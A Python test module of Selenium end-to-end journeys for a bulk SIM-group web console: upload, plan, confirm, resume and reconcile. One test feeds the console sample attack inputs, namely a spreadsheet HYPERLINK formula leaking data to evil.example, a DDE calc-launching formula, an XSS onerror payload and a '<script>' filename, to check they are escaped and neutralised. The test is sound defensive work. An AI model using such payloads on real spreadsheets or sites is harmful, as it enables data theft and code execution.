"""The console's acceptance journeys, in headless Chromium, as a new user would try them (#15).

One real `lf-bulk console` serves this module (its own embedded-sandbox home); each journey
uploads through the browser, reads what the pages say and checks the sandbox's own record of what
was sent. Every page visited is saved to e2e-screens/ for review.
"""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import WebDriverWait

from jobs.cli import cli
from lf_bulk.exitcodes import ExitCode
from lf_bulk.sandbox.seed import DEMO_GROUP

from .conftest import Console
from .journeys import (
    Shot,
    download,
    element,
    page_text,
    run_id_of,
    table_cells,
    text_of,
    through_to_plan,
    upload,
    wait_for,
    wait_for_status,
    without_javascript,
    workbook_items,
    write_csv,
    write_list,
)

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
HOSTILE_NAME = "<script>.csv"
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "<img src=x onerror=\"document.title='pwned'\">",
)
RECONCILED_GROUP = "G1000003"  # 24 members in the console's world; no other journey touches it
RUN_LINE = re.compile(r"^run (?P<run>\S+)", re.MULTILINE)
# The command-line run that gets killed sends one batch of 10 SIMs at a time, two calls a second:
# slow enough to be killed after its first batch, on the same home and sandbox as the console.
SLOW_CLIENT_CONFIG = "rate = 2\nmax_in_flight = 1\n"


def test_upload_a_list_see_the_plan_confirm_watch_it_finish_and_download_the_report(
    console: Console, shot: Shot, tmp_path: Path
) -> None:
    driver = console.driver
    console.go("/")
    wait_for(driver, "#groups")
    shot("home")
    with console.server.sandbox_state() as state:
        iccids = state.ungrouped_sims(40)
        sent_before = len(state.mutation_log())
    listing = write_list(tmp_path / "new starters.xlsx", iccids)

    upload(console, listing, action="add", group=DEMO_GROUP, shot=shot)
    plan = through_to_plan(driver, shot)
    shot("plan")
    assert plan.tag_name == "table"
    rows = table_cells(driver, "#plan")
    assert [(row[1], row[2]) for row in rows] == [(iccid, "would_add") for iccid in iccids]
    assert driver.find_element(By.ID, "plan-to-change").text == str(len(iccids))
    with console.server.sandbox_state() as state:
        assert len(state.mutation_log()) == sent_before, "the plan page sent a change"

    driver.find_element(By.ID, "confirm").click()
    run_id = run_id_of(driver)
    shot("progress")
    wait_for_status(driver, "finished")
    wait_for(driver, "#summary-chart")
    shot("result")
    outcomes = driver.find_element(By.ID, "outcomes").text
    assert "added" in outcomes and str(len(iccids)) in outcomes

    items = workbook_items(download(console, driver, "report.xlsx"))
    assert {item["iccid"]: item["outcome"] for item in items} == dict.fromkeys(iccids, "added")
    assert all(isinstance(item["iccid"], str) and item["request_id"] for item in items)
    with console.server.sandbox_state() as state:
        assert set(state.members(DEMO_GROUP)) >= set(iccids)

    console.go("/runs")
    runs_table = wait_for(driver, "#runs")
    shot("runs")
    assert run_id in runs_table.text


def test_a_file_with_invalid_rows_has_them_named_and_nothing_is_sent(
    console: Console, shot: Shot
) -> None:
    driver = console.driver
    with console.server.sandbox_state() as state:
        sent_before = len(state.mutation_log())
    upload(console, SAMPLES / "bad_rows.csv", action="add", group=DEMO_GROUP)
    invalid = wait_for(driver, "#invalid-rows")
    shot("check")
    text = invalid.text
    for row, reason in (
        (5, "bad_length"),
        (6, "bad_checksum"),
        (7, "not_digits"),
        (8, "duplicate"),
        (10, "bad_prefix"),
    ):
        assert any(line.startswith(f"{row} ") and reason in line for line in text.splitlines()), (
            f"row {row} ({reason}) is not named:\n{text}"
        )
    assert "Nothing has been sent" in page_text(driver)
    with console.server.sandbox_state() as state:
        assert len(state.mutation_log()) == sent_before


def start_then_kill_a_cli_run(console: Console, listing: Path, iccids: list[str]) -> str:
    """`lf-bulk sims add` on the console's home, killed (SIGKILL) once its first batch is sent."""
    server = console.server
    config = listing.parent / "slow.toml"
    config.write_text(SLOW_CLIENT_CONFIG)
    command = server.lf_bulk("sims", "add", DEMO_GROUP, str(listing), "--batch-size", "10")
    command[command.index("--config") + 1] = str(config)
    stderr_path = listing.parent / "cli.stderr"
    with stderr_path.open("w") as stderr:
        process = subprocess.Popen(
            command, cwd=listing.parent, env=server.env, stdout=subprocess.DEVNULL, stderr=stderr
        )
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and process.poll() is None:
            with server.sandbox_state() as state:
                sent = {i for record in state.mutation_log() for i in record.iccids}
            if sent & set(iccids):
                break
            time.sleep(0.05)
        assert process.poll() is None, (
            f"the run ended before it was killed:\n{stderr_path.read_text()}"
        )
        os.kill(process.pid, signal.SIGKILL)
    finally:
        process.kill()
        process.wait()
    found = RUN_LINE.search(stderr_path.read_text())
    assert found, stderr_path.read_text()
    with server.sandbox_state() as state:
        sent = {i for record in state.mutation_log() for i in record.iccids}
    assert 0 < len(sent & set(iccids)) < len(iccids), "the run was not killed mid-way"
    return found["run"]


def resume_from_the_runs_page(
    console: Console, shot: Shot, run_id: str, iccids: list[str], *, shown: str
) -> None:
    """Runs -> the run (showing `shown`) -> Resume -> it finishes with every SIM added."""
    driver = console.driver
    console.go("/runs")
    runs_table = wait_for(driver, "#runs")
    shot("runs")
    assert run_id in runs_table.text
    driver.find_element(By.LINK_TEXT, run_id).click()
    wait_for(driver, "#run-status")
    assert text_of(driver, "#run-status") == shown
    shot(shown)
    before = driver.find_element(By.ID, "run-status")
    driver.find_element(By.ID, "resume").click()
    # The old page stays until the console answers (it waits for the run to start): its
    # `not_finished` must not be read as the resumed run's end.
    WebDriverWait(driver, 60).until(expected_conditions.staleness_of(before))
    wait_for_status(driver, "finished")
    shot("resumed")
    assert run_id_of(driver) == run_id
    counts = dict((row[0], row[1]) for row in table_cells(driver, "#outcomes"))
    assert counts == {"added": str(len(iccids))}, counts
    with console.server.sandbox_state() as state:
        assert set(state.members(DEMO_GROUP)) >= set(iccids)


def test_a_run_left_not_finished_is_resumed_from_the_runs_page_and_finishes(
    console: Console, shot: Shot, tmp_path: Path
) -> None:
    # The fast variant: the command line leaves the run submitted, not finished (--no-wait).
    with console.server.sandbox_state() as state:
        iccids = state.ungrouped_sims(30)
    listing = write_list(tmp_path / "not finished.xlsx", iccids)
    args = console.server.lf_bulk("sims", "add", DEMO_GROUP, str(listing), "--no-wait")[3:]
    result = CliRunner().invoke(cli, args, env=console.server.env, catch_exceptions=False)
    assert result.exit_code == ExitCode.NOT_FINISHED, result.output
    found = RUN_LINE.search(result.stderr)
    assert found, result.stderr
    resume_from_the_runs_page(console, shot, found["run"], iccids, shown="not_finished")


@pytest.mark.slow
def test_a_run_killed_mid_way_is_resumed_from_the_runs_page_without_javascript(
    console: Console, shot: Shot, tmp_path: Path
) -> None:
    with console.server.sandbox_state() as state:
        iccids = state.ungrouped_sims(60)
    listing = write_list(tmp_path / "killed.xlsx", iccids)
    run_id = start_then_kill_a_cli_run(console, listing, iccids)
    with without_javascript(console.driver):
        # the run page reloads itself (its refresh) until the run has finished
        resume_from_the_runs_page(console, shot, run_id, iccids, shown="interrupted")


def test_reconcile_shows_the_drift_and_applies_it_only_with_the_typed_consent(
    console: Console, shot: Shot, tmp_path: Path
) -> None:
    driver = console.driver
    with console.server.sandbox_state() as state:
        members = sorted(state.members(RECONCILED_GROUP))
        newcomers = state.ungrouped_sims(3)
    kept = members[: len(members) // 2]
    removals = len(members) - len(kept)
    desired = write_csv(
        tmp_path / "desired.csv",
        [["group_id", "iccid"], *([RECONCILED_GROUP, iccid] for iccid in kept + newcomers)],
    )

    console.go("/reconcile")
    wait_for(driver, "#reconcile-upload").find_element(By.ID, "file").send_keys(str(desired))
    shot("form")
    driver.find_element(By.ID, "compare").click()
    drift = wait_for(driver, "#drift")
    shot("drift")
    categories = dict((row[0], row[1]) for row in table_cells(driver, "#drift"))
    assert (
        categories.items() >= {"missing": str(len(newcomers)), "unexpected": str(removals)}.items()
    )
    changes = driver.find_element(By.ID, "apply-changes").text
    assert changes == str(removals + len(newcomers)), drift.text
    assert RECONCILED_GROUP in driver.find_element(By.ID, "guard").text
    consent = driver.find_element(By.ID, "consent")
    assert consent.get_attribute("value") == "" and consent.get_attribute("type") == "text"
    assert driver.find_element(By.ID, "max-changes").get_attribute("value") == ""

    # A wrong number is refused, and nothing changes.
    driver.find_element(By.ID, "max-changes").send_keys(changes)
    consent.send_keys(str(removals - 1))
    driver.find_element(By.ID, "apply").click()
    wait_for(driver, "main")
    shot("wrong-consent")
    assert "/runs/" not in driver.current_url
    assert "nothing was sent" in page_text(driver).lower()
    with console.server.sandbox_state() as state:
        assert sorted(state.members(RECONCILED_GROUP)) == members

    driver.back()
    wait_for(driver, "#apply-form")
    driver.find_element(By.ID, "max-changes").clear()
    driver.find_element(By.ID, "max-changes").send_keys(changes)
    driver.find_element(By.ID, "consent").clear()
    driver.find_element(By.ID, "consent").send_keys(str(removals))
    driver.find_element(By.ID, "apply").click()
    wait_for_status(driver, "finished")
    shot("applied")
    with console.server.sandbox_state() as state:
        assert sorted(state.members(RECONCILED_GROUP)) == sorted(kept + newcomers)


def test_a_file_named_script_with_formula_cells_is_shown_escaped_and_reported_neutralised(
    console: Console, shot: Shot, tmp_path: Path
) -> None:
    driver = console.driver
    with console.server.sandbox_state() as state:
        valid = state.ungrouped_sims(1)[0]
    hostile = write_csv(
        tmp_path / HOSTILE_NAME, [["iccid"], *([c] for c in HOSTILE_CELLS), [valid]]
    )
    upload(console, hostile, action="add", group=DEMO_GROUP)
    wait_for(driver, "#invalid-rows")
    shot("check")
    assert driver.title != "pwned"
    assert HOSTILE_NAME in driver.find_element(By.TAG_NAME, "h1").text  # shown as text
    shown = [row[1] for row in table_cells(driver, "#invalid-rows")]
    assert shown == list(HOSTILE_CELLS), shown
    assert not driver.find_elements(By.CSS_SELECTOR, "main img, main script")
    scripts = [s.get_attribute("src") or "" for s in driver.find_elements(By.TAG_NAME, "script")]
    assert all(src.startswith(console.server.base_url + "/static/") for src in scripts), scripts

    driver.find_element(By.ID, "to-plan-skipping").click()
    wait_for(driver, "#plan")
    driver.find_element(By.ID, "confirm").click()
    wait_for_status(driver, "finished")
    shot("result")
    assert driver.title != "pwned"
    assert element(driver, "main img") is None

    items_csv = download(console, driver, "items.csv").decode("utf-8")
    typed = {
        row["iccid"]
        for row in csv.DictReader(io.StringIO(items_csv))
        if row["outcome"] == "invalid"
    }
    assert typed == {"'" + cell if cell.startswith("=") else cell for cell in HOSTILE_CELLS}
    book = load_workbook(io.BytesIO(download(console, driver, "report.xlsx")))
    cells = [cell for row in book["Items"].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], (
        "a formula in report.xlsx"
    )
    assert {"'" + c for c in HOSTILE_CELLS if c.startswith("=")} <= {str(c.value) for c in cells}
